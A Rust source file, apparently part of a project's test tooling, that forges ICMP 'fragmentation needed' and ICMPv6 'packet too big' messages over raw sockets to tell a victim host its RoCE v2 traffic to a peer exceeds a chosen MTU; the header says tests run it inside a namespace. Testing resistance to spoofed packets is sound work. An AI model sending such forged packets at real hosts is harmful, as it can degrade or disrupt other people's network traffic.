//! What strangers might send, sent from inside a namespace: `cargo xtask attack`, which the tests
//! start there.

pub(crate) mod flood;
pub(crate) mod hostile;
pub(crate) mod pcap;

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::time::Duration;

use anyhow::{Context, Result, bail};
use clap::Subcommand;
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};

use crate::attack::pcap::ROCE_V2;

/// One attack.
#[derive(Subcommand)]
pub enum Attack {
    /// Claims to a host that its packets to another are too long
    TooLong {
        /// Whom it tells
        victim: IpAddr,
        /// Where the packets are going; the message comes from this address
        peer: IpAddr,
        /// How long they might be, with their IP header
        mtu: u16,
    },
}

/// How often the message is sent, since a single one may be lost.
const TIMES: u32 = 5;
const BETWEEN: Duration = Duration::from_millis(20);
const UDP: u8 = 17;

/// Carries it out.
pub fn run(attack: &Attack) -> Result<()> {
    match *attack {
        Attack::TooLong { victim, peer, mtu } => {
            let (family, protocol, message) = match (victim, peer) {
                (IpAddr::V4(victim), IpAddr::V4(peer)) => (
                    AddressFamily::INET,
                    ipproto::ICMP,
                    fragmentation_needed(victim, peer, mtu),
                ),
                (IpAddr::V6(victim), IpAddr::V6(peer)) => (
                    AddressFamily::INET6,
                    ipproto::ICMPV6,
                    packet_too_big(victim, peer, mtu),
                ),
                _ => bail!("{victim} and {peer} are of different families"),
            };

            let raw = socket_with(
                family,
                SocketType::RAW,
                SocketFlags::CLOEXEC,
                Some(protocol),
            )
            .context("a raw socket")?;

            for _ in 0..TIMES {
                sendto(
                    &raw,
                    &message,
                    SendFlags::empty(),
                    &SocketAddr::new(victim, 0),
                )?;
                std::thread::sleep(BETWEEN);
            }

            Ok(())
        }
    }
}

/// ICMP type 3, code 4, with the first bytes of a packet that the victim might have sent from its
/// RoCE port.
fn fragmentation_needed(victim: Ipv4Addr, peer: Ipv4Addr, mtu: u16) -> Vec<u8> {
    let mut message = vec![3, 4, 0, 0, 0, 0];
    message.extend(mtu.to_be_bytes());
    // 1,100 bytes, DF.
    message.extend([0x45, 0, 0x04, 0x4c, 0, 0, 0x40, 0, 64, UDP, 0, 0]);
    message.extend(victim.octets());
    message.extend(peer.octets());
    message.extend(udp());
    let sum = checksum(&message).to_be_bytes();
    message[2..4].copy_from_slice(&sum);
    message
}

/// ICMPv6 type 2, likewise; the kernel puts in the checksum.
fn packet_too_big(victim: Ipv6Addr, peer: Ipv6Addr, mtu: u16) -> Vec<u8> {
    let mut message = vec![2, 0, 0, 0];
    message.extend(u32::from(mtu).to_be_bytes());
    message.extend([0x60, 0, 0, 0, 0x04, 0x24, UDP, 64]);
    message.extend(victim.octets());
    message.extend(peer.octets());
    message.extend(udp());
    message
}

/// The source port need not be guessed: the device itself has a socket at its own.
fn udp() -> [u8; 8] {
    let [high, low] = ROCE_V2.to_be_bytes();
    [high, low, high, low, 0x04, 0x24, 0, 0]
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks_exact(2);
    let mut sum: u32 = words
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
